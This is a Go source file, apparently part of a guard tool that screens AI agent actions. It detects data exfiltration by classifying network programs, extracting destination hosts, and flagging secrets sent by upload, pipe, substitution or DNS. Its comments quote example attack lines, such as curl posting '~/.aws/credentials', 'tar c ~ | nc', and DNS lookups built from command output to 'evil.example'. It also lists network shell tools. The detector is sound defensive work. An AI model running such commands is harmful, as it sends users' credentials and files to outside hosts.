@@ -1,0 +1,361 @@
+package heuristics
+
+import (
+	"strings"
+
+	"github.com/parapet-dev/parapet/rules/action"
+)
+
+// Exfiltration: sensitive files, or data built from command output, sent
+// off the machine.
+
+// netKind classifies programs that send data to another host.
+func netKind(v *cmdView) string {
+	switch v.prog {
+	case "curl", "wget", "http", "https", "xh", "httpie", "aria2c", "lwp-request", "POST", "PUT":
+		return "http"
+	case "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "telnet", "socat", "pwncat":
+		return "socket"
+	case "scp", "sftp", "rsync":
+		return "copy"
+	case "ssh":
+		return "ssh"
+	case "ftp", "lftp", "tftp", "smbclient":
+		return "ftp"
+	case "mail", "mailx", "sendmail", "mutt", "msmtp", "swaks":
+		return "mail"
+	case "aws", "gsutil", "rclone", "az", "s3cmd", "azcopy":
+		return "cloud"
+	case "dig", "nslookup", "host", "drill", "kdig", "resolvectl", "ping", "ping6":
+		return "dns"
+	case "openssl":
+		if len(v.args) > 0 && v.args[0] == "s_client" {
+			return "socket"
+		}
+	case "git":
+		if op := firstOperand(v.args); op == "push" || op == "remote" || op == "clone" || op == "fetch" || op == "ls-remote" {
+			return "git"
+		}
+	}
+	return ""
+}
+
+// hostsOf lists the remote hosts a network command contacts, best effort.
+func hostsOf(v *cmdView, kind string) []string {
+	var hosts []string
+	for _, a := range v.args {
+		if h := urlHost(a); h != "" {
+			hosts = append(hosts, h)
+		}
+	}
+	switch kind {
+	case "http":
+		if len(hosts) == 0 {
+			for _, op := range operands(v.args, "oOHdXuAeFTbcmwKE", []string{"--output", "--header", "--data", "--data-binary", "--data-raw",
+				"--request", "--user", "--user-agent", "--form", "--upload-file", "--cookie", "--json", "--post-data", "--post-file", "--output-document"}) {
+				if looksLikeHost(op) {
+					h, _, _ := strings.Cut(op, "/")
+					h, _, _ = strings.Cut(h, ":")
+					hosts = append(hosts, strings.ToLower(h))
+				}
+			}
+		}
+	case "socket", "ssh", "ftp", "dns":
+		ops := operands(v.args, "pwsiqlJoFIeWbcDLRO", nil)
+		if len(ops) > 0 && !strings.Contains(ops[0], "://") && !strings.HasPrefix(ops[0], "s_client") {
+			h := ops[0]
+			if at := strings.LastIndexByte(h, '@'); at >= 0 {
+				h = h[at+1:]
+			}
+			hosts = append(hosts, strings.ToLower(h))
+		}
+	case "copy":
+		for _, op := range operands(v.args, "iPoFcJlSe", []string{"--rsh"}) {
+			if h := remoteHost(op); h != "" {
+				hosts = append(hosts, h)
+			}
+		}
+	}
+	return hosts
+}
+
+// remoteHost returns the host of an scp/rsync remote operand
+// ("user@host:path", "host:path"), or "".
+func remoteHost(op string) string {
+	i := strings.IndexByte(op, ':')
+	if i <= 0 || strings.HasPrefix(op, "/") || strings.HasPrefix(op, "./") || strings.HasPrefix(op, "~") {
+		return ""
+	}
+	h := op[:i]
+	if at := strings.LastIndexByte(h, '@'); at >= 0 {
+		h = h[at+1:]
+	}
+	if h == "" || strings.ContainsAny(h, "/ ") {
+		return ""
+	}
+	return strings.ToLower(h)
+}
+
+func (s *scan) allTrusted(hosts []string) bool {
+	if len(hosts) == 0 {
+		return false
+	}
+	for _, h := range hosts {
+		if !s.an.trusted.match(h) {
+			return false
+		}
+	}
+	return true
+}
+
+// checkExfilCommands flags sensitive files flowing into a network command:
+// as an upload argument, through its stdin (a pipe or < redirection), or
+// inside a command substitution in its arguments.
+func (s *scan) checkExfilCommands(cs *cmdScan) {
+	for i := range cs.views {
+		v := &cs.views[i]
+		kind := netKind(v)
+		if kind == "" {
+			continue
+		}
+		if kind == "dns" || kind == "http" {
+			s.checkDNSExfil(v, kind)
+		}
+		if !s.enabled(rExfilFile) {
+			continue
+		}
+		hosts := hostsOf(v, kind)
+		if kind != "mail" && s.allTrusted(hosts) {
+			continue
+		}
+		dest := "another host"
+		if len(hosts) > 0 {
+			dest = hosts[0]
+		} else if kind == "mail" {
+			dest = "an email recipient"
+		}
+		line := v.prog + " " + strings.Join(v.args, " ")
+		report := func(what string) {
+			s.add(rExfilFile, "sends "+what+" to "+dest+": secrets must not leave the machine; if the host needs them, configure it as trusted or copy them by hand", line)
+		}
+		// 1. The command's own arguments (upload flags, scp/rsync sources,
+		// mail attachments). Reads by fetch-only commands (curl URL) do
+		// not count: only arguments that are uploaded.
+		if kind != "dns" {
+			cs.sensitiveReads(v, func(raw string, sens sensitivity, label string) bool {
+				if kind == "http" && !strings.Contains(raw, "@") && !strings.Contains(raw, "=<") && !strings.HasPrefix(raw, "--") && !uploadsOperand(v, raw) {
+					return false
+				}
+				report(label + " (" + raw + ")")
+				return true
+			})
+		}
+		// 2. Data piped in from an earlier command that read a secret.
+		cs.upstream(v, func(u *cmdView) bool {
+			return cs.sensitiveReads(u, func(raw string, sens sensitivity, label string) bool {
+				report(label + " (" + raw + ", piped from " + u.prog + ")")
+				return true
+			}) || homeArchive(cs, u, report)
+		})
+		// 3. A substitution in the arguments that mentions a secret file:
+		// curl -d "$(cat ~/.aws/credentials)".
+		for _, a := range v.args {
+			if !hasSubstitution(a) {
+				continue
+			}
+			if raw, label, ok := cs.sensitiveMention(a); ok {
+				report(label + " (" + raw + ")")
+				break
+			}
+		}
+	}
+}
+
+// uploadsOperand reports whether an http client uploads raw: curl -T raw,
+// wget --post-file raw, httpie field@raw.
+func uploadsOperand(v *cmdView, raw string) bool {
+	found := false
+	for _, f := range []struct {
+		short byte
+		long  string
+	}{{'T', "upload-file"}, {0, "post-file"}, {0, "body-file"}} {
+		flagValues(v.args, f.short, f.long, func(val string) {
+			if val == raw {
+				found = true
+			}
+		})
+	}
+	return found
+}
+
+// homeArchive reports a whole home directory archived or listed into a pipe
+// (tar c ~ | nc …).
+func homeArchive(cs *cmdScan, u *cmdView, report func(string)) bool {
+	if u.prog != "tar" && u.prog != "zip" && u.prog != "cpio" && u.prog != "7z" {
+		return false
+	}
+	for _, op := range operands(u.args, "fCX", nil) {
+		if _, isHome, ok := homeRel(cs.resolve(op).Abs, cs.home); ok && isHome {
+			report("your whole home directory (" + op + ", archived by " + u.prog + ")")
+			return true
+		}
+	}
+	return false
+}
+
+// sensitiveMention finds a sensitive path named inside a word such as
+// "$(cat ~/.aws/credentials)".
+func (cs *cmdScan) sensitiveMention(w string) (string, string, bool) {
+	for _, tok := range strings.FieldsFunc(w, func(r rune) bool {
+		return r == ' ' || r == '(' || r == ')' || r == '`' || r == '"' || r == '\'' || r == '<' || r == '|' || r == ';' || r == '@' || r == '='
+	}) {
+		if !(strings.HasPrefix(tok, "/") || strings.HasPrefix(tok, "~") || strings.HasPrefix(tok, "$HOME") || strings.HasPrefix(tok, "${HOME}") || strings.HasPrefix(tok, ".env")) {
+			continue
+		}
+		if sens, label := classify(cs.resolve(tok).Abs, cs.home); sens != sensNone {
+			return tok, label, true
+		}
+	}
+	return "", "", false
+}
+
+// checkDNSExfil flags host names built from command output: dig $(whoami).x,
+// curl http://$(cat f).evil.example.
+func (s *scan) checkDNSExfil(v *cmdView, kind string) {
+	if !s.enabled(rExfilDNS) {
+		return
+	}
+	for _, a := range v.args {
+		if !hasSubstitution(a) && !strings.Contains(a, "${") && !(kind == "dns" && strings.HasPrefix(a, "$")) {
+			continue
+		}
+		if kind == "http" {
+			i := strings.Index(a, "://")
+			if i < 0 {
+				continue
+			}
+			host := a[i+3:]
+			if j := strings.IndexAny(host, "/?#"); j >= 0 {
+				host = host[:j]
+			}
+			if !strings.Contains(host, "$(") && strings.IndexByte(host, '`') < 0 {
+				continue
+			}
+		}
+		s.add(rExfilDNS, v.prog+" looks up a host name built from command output: data leaves through DNS; refuse it", v.prog+" "+strings.Join(v.args, " "))
+		return
+	}
+}
+
+// outboundDestination describes where a non-command action sends data, or
+// returns false when it sends nothing off the machine.
+func (s *scan) outboundDestination() (destination, bool) {
+	act := s.act
+	switch act.Type {
+	case "send_email", "send_message":
+		return destination{recipients: true, label: "a message recipient"}, true
+	case "http_request", "web_fetch", "browser_navigate", "web_search", "browser_type", "browser_click":
+	default:
+		if act.Known || len(act.URLs) == 0 {
+			return destination{}, false
+		}
+	}
+	d := destination{label: "an untrusted host"}
+	for _, u := range act.URLs {
+		d.hosts = append(d.hosts, u.Host)
+	}
+	if len(d.hosts) > 0 && d.hosts[0] != "" {
+		d.label = d.hosts[0]
+	}
+	return d, true
+}
+
+// checkOutbound judges data leaving through a non-command action:
+// sensitive file references and secret material.
+func (s *scan) checkOutbound() {
+	if s.act.Type == "execute_command" {
+		return
+	}
+	d, ok := s.outboundDestination()
+	if !ok {
+		return
+	}
+	if s.enabled(rExfilFile) && (d.recipients || !s.allHostsTrusted(d.hosts)) {
+		s.checkOutboundFiles(&d)
+	}
+	for i := range s.act.Strings {
+		s.scanSecrets(s.act.Strings[i].Value, &d)
+	}
+}
+
+func (s *scan) allHostsTrusted(hosts []string) bool { return s.allTrusted(hosts) }
+
+// checkOutboundFiles flags sensitive paths an outbound action carries:
+// attachments and path arguments, file:// URLs and "@path" upload
+// references in its strings. A path merely mentioned in prose is not the
+// file itself and is left alone.
+func (s *scan) checkOutboundFiles(d *destination) {
+	home := s.act.Caller.Home
+	for i := range s.act.Paths {
+		p := &s.act.Paths[i]
+		if sens, label := classify(p.Abs, home); sens != sensNone {
+			s.add(rExfilFile, "sends "+label+" ("+p.Raw+") to "+d.label+": secrets must not leave the machine; remove the file from the request", p.Raw)
+			return
+		}
+	}
+	for i := range s.act.Strings {
+		v := s.act.Strings[i].Value
+		for _, marker := range []string{"file://", "@/", "@~"} {
+			j := strings.Index(v, marker)
+			if j < 0 {
+				continue
+			}
+			ref := v[j+len(marker):]
+			if marker != "file://" {
+				ref = v[j+1:]
+			}
+			if k := strings.IndexAny(ref, " \t\n\"'<>,;)"); k >= 0 {
+				ref = ref[:k]
+			}
+			r, _ := action.ResolvePath(ref, s.act.Caller.WorkspaceRoot, home)
+			if sens, label := classify(r.Abs, home); sens != sensNone {
+				s.add(rExfilFile, "sends "+label+" ("+ref+") to "+d.label+": secrets must not leave the machine; remove the file from the request", v[j:min(len(v), j+len(marker)+len(ref))])
+				return
+			}
+		}
+	}
+}
+
+// commandDestination collects the hosts a command line sends to, for the
+// secret detectors. ok is false when no command talks to the network.
+func (cs *cmdScan) commandDestination() (destination, bool) {
+	var d destination
+	found := false
+	for i := range cs.views {
+		v := &cs.views[i]
+		kind := netKind(v)
+		if kind == "" {
+			continue
+		}
+		found = true
+		if kind == "mail" {
+			d.recipients = true
+		}
+		hosts := hostsOf(v, kind)
+		if len(hosts) == 0 {
+			hosts = []string{""} // unknown: never trusted
+		}
+		d.hosts = append(d.hosts, hosts...)
+	}
+	d.label = "an untrusted host"
+	for _, h := range d.hosts {
+		if h != "" {
+			d.label = h
+			break
+		}
+	}
+	if d.recipients {
+		d.label = "an email recipient"
+	}
+	return d, found
+}
